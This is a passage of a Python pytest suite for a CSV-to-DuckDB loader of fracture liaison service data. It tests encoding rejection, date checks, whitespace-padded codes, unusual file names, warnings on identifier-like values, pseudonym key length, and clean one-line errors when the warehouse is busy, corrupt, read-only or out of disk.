    load_env.write("ok.csv", csv_text([good_row(0)]))
    secret = load_env.write("locked.csv", csv_text([good_row(1)]))
    load_env.write("closed/inside.csv", csv_text([good_row(2)]))
    closed = load_env.landing / "closed"
    real_open, real_scandir = open, os.scandir

    def fake_open(file, *args, **kwargs):
        if Path(file) == secret:
            raise PermissionError(13, "Permission denied", str(file))
        return real_open(file, *args, **kwargs)

    def fake_scandir(path="."):
        if isinstance(path, (str, os.PathLike)) and Path(path) == closed:
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(discovery, "open", fake_open, raising=False)
    monkeypatch.setattr(os, "scandir", fake_scandir)
    result = load_env.load()
    out = {f.source_file: f for f in result.files}
    assert out["ok.csv"].status == "loaded"
    assert out["locked.csv"].status == "refused" and "Permission denied" in out["locked.csv"].reason
    assert out["closed"].status == "refused" and "cannot be listed" in out["closed"].reason
    assert set(load_env.q("SELECT source_file, status FROM raw.load_files")) == {
        ("ok.csv", "loaded"), ("locked.csv", "refused"), ("closed", "refused")}
    assert "REFUSED" in result.summary_table()
    monkeypatch.undo()
    result = load_env.load()                                       # readable again: loads
    assert load_env.file_row("locked.csv")[:5] == ("loaded", None, 1, 1, 0)
    assert load_env.file_row("closed/inside.csv")[:5] == ("loaded", None, 1, 1, 0)
    all_accounted(load_env, result)


# --- 4. Encoding: never a silent change ------------------------------------------------------

def _names_file(names: list[str]) -> str:
    return csv_text([good_row(i, **{"Record ID": f"R-{v}"}) for i, v in enumerate(names)])


NAMES = ["José", "Zoë", "Müller", "Françoise", "Øyvind", "Straße", "Muñoz", "O’Brien"]


@pytest.mark.parametrize("stray", [b"\xe9", b"\x92", b"\x80", b"\xa3", b"\xfc", b"\xff"])
def test_utf8_file_with_a_stray_single_byte_is_rejected_not_mojibake(load_env, stray):
    data = _names_file(NAMES).encode("utf-8")
    lines = data.split(b"\n")
    lines[4] = lines[4].replace(b"R-", b"R" + stray + b"-", 1)      # one stray byte on line 5
    load_env.write("mixed.csv", b"\n".join(lines))
    result = load_env.load()
    all_accounted(load_env, result)
    status, reason, *_ = load_env.file_row("mixed.csv")
    assert status == "rejected" and "Mixed encoding" in reason and "line 5" in reason, reason
    assert load_env.q("SELECT count(*) FROM raw.submission_records") == [(0,)]


@pytest.mark.parametrize("names", [["José"], ["Zoë"], ["Muñoz"], ["Straße"], ["Øyvind"],
                                   ["O’Brien", "don’t"], NAMES])
def test_macroman_file_is_rejected_not_mojibake(load_env, names):
    load_env.write("mac.csv", _names_file(names).encode("mac_roman"))
    result = load_env.load()
    all_accounted(load_env, result)
    status, reason, *_ = load_env.file_row("mac.csv")
    assert status == "rejected" and "encoding" in reason and "line " in reason, reason


@pytest.mark.parametrize("names", [["José"], ["Zoë", "Müller"], ["Françoise", "€5 fee"],
                                   ["José’s"], ["Renée", "Søren"]])
def test_windows_1252_file_is_decoded_only_when_certain(load_env, names):
    load_env.write("win.csv", _names_file(names).encode("cp1252"))
    result = load_env.load()
    all_accounted(load_env, result)
    assert load_env.file_row("win.csv")[0] == "loaded"
    stored = sorted(r[0] for r in load_env.q('SELECT "Record ID" FROM raw.submission_records'))
    assert stored == sorted(f"R-{n}" for n in names)               # exactly, no mojibake


def test_no_stored_value_is_mojibake_after_any_encoding_case(load_env):
    for i, enc in enumerate(["utf-8", "cp1252", "mac_roman", "latin-1", "utf-8-sig"]):
        try:
            load_env.write(f"enc_{i}.csv", _names_file(NAMES[:3]).encode(enc))
        except UnicodeEncodeError:
            continue
    result = load_env.load()
    all_accounted(load_env, result)
    dump = str(load_env.q("SELECT * FROM raw.submission_records"))
    for mojibake in ("Ã", "Â", "Ž", "Ë", "Š", "\ufffd"):
        assert mojibake not in dump


# --- 5. Dates after the load -----------------------------------------------------------------

def test_last_updated_or_fracture_after_the_load_is_rejected(load_env):
    from datetime import datetime
    now = datetime(2025, 1, 15, 12, 0, 0)
    rows = [good_row(0, **{"Last Updated": "2099-01-01T00:00:00"}),
            good_row(1, **{"Last Updated": "2025-01-15 12:00:01"}),    # one second later
            good_row(2, **{"Last Updated": "2025-01-15T12:00:00",
                           "1.09 Date Index Frac Diagnosed": "2025-01-14"}),
            good_row(3, **{"1.09 Date Index Frac Diagnosed": "2099-06-01"}),
            good_row(4)]
    load_env.write("future.csv", csv_text(rows))
    result = load_landing(load_env.landing, load_env.warehouse, registry_path=load_env.registry,
                          progress=False, load_time=now)
    all_accounted(load_env, result)
    rejects = load_env.rejects("future.csv")
    assert [(r[0], r[1]) for r in rejects] == [
        (2, "last_updated_after_load"), (3, "last_updated_after_load"),
        (5, "fracture_after_extract")]
    assert "after the time of this load" in rejects[0][3]
    # the extract date comes only from Last Updated values at or before the load
    assert load_env.q("SELECT file_extract_date::VARCHAR FROM raw.load_files") == [("2025-01-15",)]


def test_extract_date_can_never_be_after_the_load(load_env):
    load_env.write("all_future.csv", csv_text(
        [good_row(i, **{"Last Updated": f"20{90 + i}-01-01T00:00:00"}) for i in range(5)]))
    result = load_env.load()
    all_accounted(load_env, result)
    assert load_env.file_row("all_future.csv")[:5] == ("loaded", None, 5, 0, 5)
    assert load_env.q("SELECT file_extract_date FROM raw.load_files") == [(None,)]


# --- 6. Coded answers: any whitespace, documented wordings -----------------------------------

PADDINGS = ["\t", "\r", "\u00a0", "\u2003", "\u3000", "\u202f", " \t\u00a0 ", "\u2028", "\x0b"]


@pytest.mark.parametrize("pad", PADDINGS)
def test_coded_answers_padded_with_any_whitespace_are_accepted(load_env, pad):
    rows = [good_row(0, **{"1.11 SiteFirstFrac": f"{pad}Hip{pad}"}),
            good_row(1, **{"1.11 SiteFirstFrac": f"{pad}wrist"}),
            good_row(2, **{"FLS Code": f"{pad}rx1{pad}"})]
    text = csv_text(rows)
    if "\r" in pad:         # quoted, as RFC 4180 asks (unquoted: test_lone_carriage_return_...)
        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL)
        w.writerow(COLS)
        w.writerows([[r[c] for c in COLS] for r in rows])
        text = buf.getvalue()
    load_env.write("padded.csv", text)
    result = load_env.load()
    all_accounted(load_env, result)
    assert load_env.file_row("padded.csv")[:5] == ("loaded", None, 3, 3, 0)
    assert [f.warnings for f in result.files] == [[]]            # one FLS after normalising


def test_documented_wordings_are_read_as_the_code():
    assert contract.code_wordings("dxa") == {"Ordered (not yet done)": "Ordered"}
    assert contract.code_wordings("fracture_type") == {
        "Incidental (found on imaging for another reason)": "Incidental"}
    assert contract.code_wordings("bone_therapy_16_weeks")["Alendronate (started)"] == "Alendronate"
    assert contract.code_wordings("bone_therapy_52_weeks")["HRT (still taking)"] == "HRT"


def test_staging_reads_coded_answers_as_the_loader_does(tmp_path):
    """The loader and the staging SQL share one rule (dbt_project.yml vars + one macro): padded
    answers and documented wordings are staged as the code, and an accepted 1.11 is never
    staged as null. Builds staging with dbt on a tiny file."""
    import json
    import subprocess
    import sys
    from flsdb import paths

    landing = tmp_path / "landing"
    landing.mkdir()
    rows = [good_row(0, **{"1.11 SiteFirstFrac": "\u00a0Spine\t", "3.01 DXA": "Ordered (not yet done)",
                           "1.10 TypeOfFracture": " incidental (found on imaging for another reason) ",
                           "6.05 BoneTherapy1216": "Alendronate\u00a0 (started)",
                           "7.05 BoneTherapy4856": "hrt (still taking)",
                           "1.05 CareRes": "\u3000No\r", "2.05 Smoker": "Not\u00a0known",
                           "FLS Code": "\tSYN001\u00a0"})]
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL)   # RFC 4180: CR quoted
    writer.writerow(COLS)
    writer.writerows([[r[c] for c in COLS] for r in rows])
    (landing / "codes.csv").write_text(buf.getvalue(), encoding="utf-8")
    (landing / "_reference").mkdir()
    (landing / "_reference" / "synthetic_nspl_postcode_lookup.csv").write_text(
        "pcds,lsoa11\nSW1A 1AA,E01004736\n")
    wh = tmp_path / "wh.duckdb"
    result = load_landing(landing, wh, progress=False)
    assert result.rows_accepted == 1, result.summary_table()
    env = dict(os.environ, DBT_PROFILES_DIR=str(paths.PROJECT_DIR), FLSDB_WAREHOUSE=str(wh),
               FLSDB_POSTCODE_LOOKUP=str(landing / "_reference" /
                                         "synthetic_nspl_postcode_lookup.csv"),
               DO_NOT_TRACK="1")
    env.pop("FLSDB_PSEUDONYM_KEY", None)
    dbt = Path(sys.executable).with_name("dbt")
    proc = subprocess.run([str(dbt), "run", "--select", "+stg_fls_db__submission_records",
                           "--project-dir", str(paths.PROJECT_DIR), "--target-path",
                           str(tmp_path / "target"), "--log-path", str(tmp_path / "logs")],
                          env=env, cwd=paths.PROJECT_DIR, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout[-3000:]
    con = duckdb.connect(str(wh), read_only=True)
    try:
        got = con.execute(
            "select fls_code, fracture_site, dxa_status, fracture_presentation, "
            "bone_therapy_at_16_weeks, bone_therapy_at_52_weeks, lived_in_care_home, "
            "current_smoker, dxa_status_warning, fracture_presentation_warning "
            "from staging.stg_fls_db__submission_records").fetchall()
    finally:
        con.close()
    assert got == [("SYN001", "Spine", "Ordered", "Incidental", "Alendronate", "HRT", "No",
                    "Not known", None, None)], json.dumps(got)


# --- 7. File names: newline vs a literal backslash-n -----------------------------------------

def test_file_names_with_newline_and_literal_backslash_n_stay_apart(load_env):
    names = ["a\nb.csv", "a\\nb.csv", "tab\there.csv", "tab\\there.csv", "cr\rx.csv",
             "back\\\\slash.csv", "nel\u0085x.csv", "bidi\u202ex.csv"]
    for i, name in enumerate(names):
        load_env.write(name, csv_text([good_row(i)]))
    result = load_env.load()
    all_accounted(load_env, result)
    rows = load_env.q("SELECT source_file, source_file_escaped FROM raw.load_files")
    assert sorted(r[0] for r in rows) == sorted(names)             # the exact names
    escaped = [r[1] for r in rows]
    assert len(set(escaped)) == len(names)                         # unambiguous
    assert all(c.isprintable() for e in escaped for c in e)
    assert {"a\\nb.csv", "a\\\\nb.csv"} <= set(escaped)
    table = result.summary_table()
    assert "a\\nb.csv" in table and "a\\\\nb.csv" in table and "a\nb.csv" not in table
    # lineage: each record points at exactly one file row
    assert load_env.q("SELECT count(*) FROM raw.submission_records r JOIN raw.load_files f "
                      "ON f.file_sha256 = r._file_sha256 AND f.source_file = r._source_file"
                      ) == [(len(names),)]


# --- 8. Re-checking rejects after the registry gains an FLS ----------------------------------

def test_recheck_rejects_after_the_registry_gains_an_fls(load_env):
    from click.testing import CliRunner
    from flsdb.cli import main as cli

    rows = [good_row(0), good_row(1, **{"FLS Code": "NEW1"}),
            good_row(2, **{"FLS Code": " new1\u00a0", "1.09 Date Index Frac Diagnosed": "2015-03-01"}),
            good_row(3, **{"FLS Code": "ZZZ9"}), good_row(4, **{"FLS Code": "NEW1"})]
    load_env.write("x.csv", csv_text(rows))
    load_env.write("y.csv", csv_text([good_row(9, **{"FLS Code": "NEW1"})]))
    result = load_env.load()
    all_accounted(load_env, result)
    assert load_env.q("SELECT sum(rows_rejected) FROM raw.load_files") == [(5,)]
    runner = CliRunner()
    args = ["recheck-rejects", "--warehouse", str(load_env.warehouse), "--registry",
            str(load_env.registry)]
    out = runner.invoke(cli, args)
    assert out.exit_code == 0 and "0 accepted" in out.output, out.output     # nothing new yet
    load_env.registry.write_text(load_env.registry.read_text() + "NEW1,New service\n")
    out = runner.invoke(cli, args)
    assert out.exit_code == 0, out.output
    assert "3 accepted" in out.output and "1 still rejected" in out.output
    assert load_env.file_row("x.csv")[:5] == ("loaded", None, 5, 3, 2)
    assert load_env.file_row("y.csv")[:5] == ("loaded", None, 1, 1, 0)
    assert load_env.q('SELECT "Record ID", _source_file, _line_number, _load_order '
                      "FROM raw.submission_records ORDER BY 1") == [
        ("R00000", "x.csv", 2, 1), ("R00001", "x.csv", 3, 1), ("R00004", "x.csv", 6, 1),
        ("R00009", "y.csv", 2, 2)]
    assert load_env.q("SELECT _line_number, reject_code FROM raw.submission_rejects "
                      "ORDER BY 1") == [(4, "fracture_before_2016"), (5, "unknown_fls_code")]
    assert load_env.q("SELECT sum(rows_accepted_on_recheck) FROM raw.load_files") == [(3,)]
    assert_counts_balance(load_env)
    out = runner.invoke(cli, args)                                  # idempotent
    assert "0 row(s)" in out.output and load_env.file_row("x.csv")[:5] == ("loaded", None, 5, 3, 2)


# --- 9. Identifier-like tokens in Record IDs and file names ----------------------------------

def test_identifier_like_tokens_in_record_ids_and_file_names_warn(load_env):
    rows = [good_row(0, **{"Record ID": "REC-943 476 5919"}),       # NHS-number-like
            good_row(1, **{"Record ID": "SW1A1AA-17"}),             # postcode
            good_row(2, **{"Record ID": "ID_1948-03-15_x"}),        # date of birth
            good_row(3, **{"Record ID": "15031948"}),               # compact DOB
            good_row(4, **{"Record ID": "R000123"}),                # fine
            good_row(5, **{"Record ID": "SYN001-2024-06-30-7"})]    # an audit date: fine
    load_env.write("patient B1 1AA 4857773456.csv", csv_text(rows))
    load_env.write("clean.csv", csv_text([good_row(9)]))
    result = load_env.load()
    all_accounted(load_env, result)
    out = {f.source_file: f for f in result.files}
    warns = " ".join(out["patient B1 1AA 4857773456.csv"].warnings)
    assert "1 with a 10-digit number like an NHS number (first on line 2)" in warns
    assert "1 with a UK postcode (first on line 3)" in warns
    assert "2 with a date like a date of birth" in warns
    assert "the file name holds a 10-digit number like an NHS number and a UK postcode" in warns
    for value in ("943 476 5919", "SW1A", "1948", "4857773456", "B1 1AA"):
        assert value not in warns
    assert out["clean.csv"].warnings == []
    stored = load_env.q("SELECT load_warnings FROM raw.load_files WHERE source_file LIKE 'pat%'")
    assert "Record IDs look like they hold an identifier" in stored[0][0]


# --- 10. The pseudonym key -------------------------------------------------------------------

@pytest.mark.parametrize("key", ["x", " ", "\t\n", "short-key-31-bytes-long-xxxxxxx",
                                 "  " + "k" * 31 + "  "])
def test_short_pseudonym_keys_are_refused(monkeypatch, key):
    from click.testing import CliRunner
    from flsdb import dbt_duckdb_plugin
    from flsdb.cli import main as cli

    monkeypatch.setenv("FLSDB_PSEUDONYM_KEY", key)
    with pytest.raises(ValueError, match="at least 32 bytes"):
        dbt_duckdb_plugin.pseudonym_key()
    out = CliRunner().invoke(cli, ["build", "--select", "nothing"])
    assert out.exit_code == 8 and "at least 32 bytes" in out.output, out.output
    assert "Traceback" not in out.output and len(out.output.strip().splitlines()) == 1
    if len(key.strip()) > 3:
        assert key.strip() not in out.output                       # the key is never echoed


def test_pseudonym_key_of_32_bytes_and_development_mode_are_accepted(monkeypatch):
    from flsdb import dbt_duckdb_plugin

    monkeypatch.setenv("FLSDB_PSEUDONYM_KEY", "k" * 32)
    assert dbt_duckdb_plugin.pseudonym_key() == "k" * 32
    monkeypatch.delenv("FLSDB_PSEUDONYM_KEY")
    assert dbt_duckdb_plugin.pseudonym_key() == dbt_duckdb_plugin.DEVELOPMENT_KEY


# --- 11. `flsdb run` never generates into a folder that holds anything -----------------------

@pytest.mark.parametrize("entry", ["EXPORT.CSV", "export.txt", ".hidden", "_reference/x.csv",
                                   "sub/", "data.csv.gz"])
def test_run_generates_only_into_an_absent_or_empty_landing_folder(tmp_path, monkeypatch, entry):
    from click.testing import CliRunner
    from flsdb import cli as cli_module

    landing = tmp_path / "landing"
    assert cli_module.landing_is_empty(landing)                     # absent
    landing.mkdir()
    assert cli_module.landing_is_empty(landing)                     # empty
    target = landing / entry
    if entry.endswith("/"):
        target.mkdir(parents=True)
    else:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(b"x")
    assert not cli_module.landing_is_empty(landing)
    generated, loaded = [], []
    monkeypatch.setenv("FLSDB_LANDING", str(landing))
    monkeypatch.setenv("FLSDB_WAREHOUSE", str(tmp_path / "wh.duckdb"))
    monkeypatch.setattr("flsdb.synthetic.generate", lambda **kw: generated.append(kw) or "")
    monkeypatch.setattr("flsdb.ingest.load_landing",
                        lambda *a, **k: loaded.append(a) or (_ for _ in ()).throw(SystemExit(9)))
    out = CliRunner().invoke(cli_module.main, ["run"])
    assert generated == [] and loaded, out.output
    assert "not empty: loading what is there" in out.output


# --- 3. Operational failures: one line, a documented exit code, data intact ------------------

def _cli(args, env):
    import subprocess
    import sys
    flsdb = Path(sys.executable).with_name("flsdb")
    return subprocess.run([str(flsdb), *args], env={**os.environ, **env}, capture_output=True,
                          text=True, timeout=300)


def _loaded_warehouse(load_env):
    load_env.write("a.csv", csv_text([good_row(i) for i in range(20)]))
    load_env.load()
    return load_env.warehouse


def _assert_one_line(proc, code, needle):
    assert proc.returncode == code, (proc.returncode, proc.stdout[-2000:], proc.stderr[-2000:])
    assert "Traceback" not in proc.stderr + proc.stdout, (proc.args, proc.stderr[-3000:])
    errors = [ln for ln in proc.stderr.splitlines() if ln.startswith("Error:")]
    assert len(errors) == 1 and needle in errors[0], proc.stderr


def test_every_command_against_a_busy_warehouse_says_so(load_env, tmp_path):
    import subprocess
    import sys
    wh = _loaded_warehouse(load_env)
    holder = subprocess.Popen([sys.executable, "-c",
                               "import duckdb, sys, time; c = duckdb.connect(sys.argv[1]); "
                               "print('held', flush=True); time.sleep(120)", str(wh)],
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        env = {"FLSDB_WAREHOUSE": str(wh), "FLSDB_LANDING": str(load_env.landing),
               "FLSDB_OUTPUT": str(tmp_path / "out")}
        for args in (["load"], ["build"], ["validate", "--no-gx"],
                     ["recheck-rejects", "--registry", str(load_env.registry)],
                     ["publish", "--warehouse", str(wh)]):
            proc = _cli(args, env)
            if args[0] == "publish":       # refuses before opening: no validation yet
                assert proc.returncode == 3 and "Traceback" not in proc.stderr, proc.stderr
                continue
            _assert_one_line(proc, 4, "busy")
    finally:
        holder.kill()
        holder.wait()
    assert load_env.q("SELECT count(*) FROM raw.submission_records") == [(20,)]


@pytest.mark.parametrize("damage", ["truncated", "garbage", "empty"])
def test_truncated_or_corrupt_warehouse_gives_one_line(load_env, tmp_path, damage):
    wh = _loaded_warehouse(load_env)
    size = wh.stat().st_size
    if damage == "truncated":
        os.truncate(wh, size // 3)
    elif damage == "garbage":
        wh.write_bytes(os.urandom(size))
    else:
        wh.write_bytes(b"")
    before = wh.read_bytes()
    env = {"FLSDB_WAREHOUSE": str(wh), "FLSDB_LANDING": str(load_env.landing),
           "FLSDB_OUTPUT": str(tmp_path / "out")}
    for args in (["load"], ["build"], ["validate", "--no-gx"],
                 ["recheck-rejects", "--registry", str(load_env.registry)]):
        _assert_one_line(_cli(args, env), 6, "Warehouse unreadable")
    assert wh.read_bytes() == before                                # nothing made it worse


def _mount_tmpfs(path: Path, size: str) -> bool:
    import subprocess
    path.mkdir(parents=True, exist_ok=True)
    return subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)],
                          capture_output=True).returncode == 0


def _umount(path: Path) -> None:
    import subprocess
    subprocess.run(["umount", str(path)], capture_output=True)


def test_read_only_warehouse_gives_one_line(load_env, tmp_path):
    import subprocess
    mnt = tmp_path / "ro"
    if not _mount_tmpfs(mnt, "64m"):
        pytest.skip("cannot mount a tmpfs here (needs root)")
    try:
        wh = mnt / "wh.duckdb"
        load_env.warehouse = wh
        _loaded_warehouse(load_env)
        load_env.write("b.csv", csv_text([good_row(100)]))
        assert subprocess.run(["mount", "-o", "remount,ro", str(mnt)]).returncode == 0
        env = {"FLSDB_WAREHOUSE": str(wh), "FLSDB_LANDING": str(load_env.landing),
               "FLSDB_OUTPUT": str(tmp_path / "out")}
        for args in (["load"], ["build"], ["recheck-rejects", "--registry",
                                           str(load_env.registry)]):
            _assert_one_line(_cli(args, env), 5, "not writable")
        assert load_env.q("SELECT count(*) FROM raw.submission_records") == [(20,)]
    finally:
        _umount(mnt)


def test_full_disk_during_a_load_gives_one_line_and_keeps_loaded_data(load_env, tmp_path):
    import subprocess
    mnt = tmp_path / "full"
    if not _mount_tmpfs(mnt, "3m"):
        pytest.skip("cannot mount a tmpfs here (needs root)")
    try:
        wh = mnt / "wh.duckdb"
        load_env.warehouse = wh
        _loaded_warehouse(load_env)
        load_env.write("big.csv", csv_text([good_row(i, **{"Record ID": f"R{i}-" + "x" * 400})
                                            for i in range(30_000)]))
        env = {"FLSDB_WAREHOUSE": str(wh), "FLSDB_LANDING": str(load_env.landing)}
        _assert_one_line(_cli(["load"], env), 7, "Disk full")
        subprocess.run(["mount", "-o", "remount,size=256m", str(mnt)], check=True)
        assert load_env.q("SELECT count(*) FROM raw.submission_records") == [(20,)]
        assert_counts_balance(load_env)
        proc = _cli(["load"], env)                                  # space freed: it loads
        assert proc.returncode == 0, proc.stderr
        # (the CLI checks FLS codes against the project's registry, which lacks RX1)
        assert load_env.file_row("big.csv")[:3] == ("loaded", None, 30_000)
        assert_counts_balance(load_env)
    finally:
        _umount(mnt)


def test_failure_kinds_map_to_documented_exit_codes():
    """The classification itself, for errors not easily provoked in a test (disk quota, EROFS
    raised by Python code, a lock message from DuckDB)."""
    import errno as errno_
    from flsdb import failures

    cases = [
        (OSError(errno_.ENOSPC, "No space left on device"), "disk_full", 7),
        (duckdb.IOException('IO Error: Could not write all bytes to file "/w/x.duckdb.wal": '
                            "No space left on device"), "disk_full", 7),
        (OSError(errno_.EROFS, "Read-only file system"), "warehouse_read_only", 5),
        (duckdb.IOException('IO Error: Could not set lock on file "/w/x.duckdb": Conflicting '
                            "lock is held in /usr/bin/python (PID 42)"), "warehouse_busy", 4),
        (duckdb.IOException('IO Error: The file "/w/x.duckdb" exists, but it is not a valid '
                            "DuckDB database file!"), "warehouse_corrupt", 6),
    ]
    for exc, kind, code in cases:
        failure = failures.classify(exc, "/w/x.duckdb")
        assert (failure.kind, failure.exit_code) == (kind, code)
        assert "\n" not in failure.message
    # a failed ROLLBACK after a full disk still reports the full disk
    try:
        try:
            raise OSError(errno_.ENOSPC, "No space left on device")
        except OSError:
            raise duckdb.TransactionException("cannot rollback - no transaction is active")
    except duckdb.Error as chained:
        assert failures.classify(chained, "/w").kind == "disk_full"
    assert failures.classify(ValueError("x"), "/w") is None
